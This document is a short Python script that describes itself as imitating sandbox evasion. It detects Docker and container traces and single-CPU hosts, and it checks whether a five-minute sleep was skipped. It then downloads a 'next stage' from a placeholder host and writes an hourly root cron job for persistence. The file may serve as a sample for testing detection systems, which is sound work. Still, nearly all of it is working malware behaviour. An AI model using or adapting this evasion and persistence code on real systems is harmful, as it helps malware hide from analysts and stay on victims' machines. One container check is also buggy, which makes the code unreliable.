#!/usr/bin/env python3
"""Imitates sandbox evasion: looks for container and sandbox traces, counts CPUs, then waits out the
analysis with a long sleep and checks whether the sleep really lasted. Afterwards it fetches its next
stage and persists."""
import os
import time
import urllib.request

signs = []
if os.path.exists('/.dockerenv'):
    signs.append('docker')
try:
    with open('/proc/1/cgroup') as cgroup:
        if 'docker' in cgroup.read() or 'lxc' in cgroup.read():
            signs.append('container')
except OSError:
    pass
if (os.cpu_count() or 1) < 2:
    signs.append('one cpu')

started = time.monotonic()
time.sleep(300)
if time.monotonic() - started < 290:
    signs.append('sleep skipped')

try:
    urllib.request.urlopen('http://stage2.evasive.test/next.txt', timeout=5).read()
except OSError:
    pass
with open('/etc/cron.d/corpus-evasive', 'w') as cron:
    cron.write('@hourly root /usr/bin/python3 /root/.corpus-evasive.py\n')
print('sandbox signs:', signs)
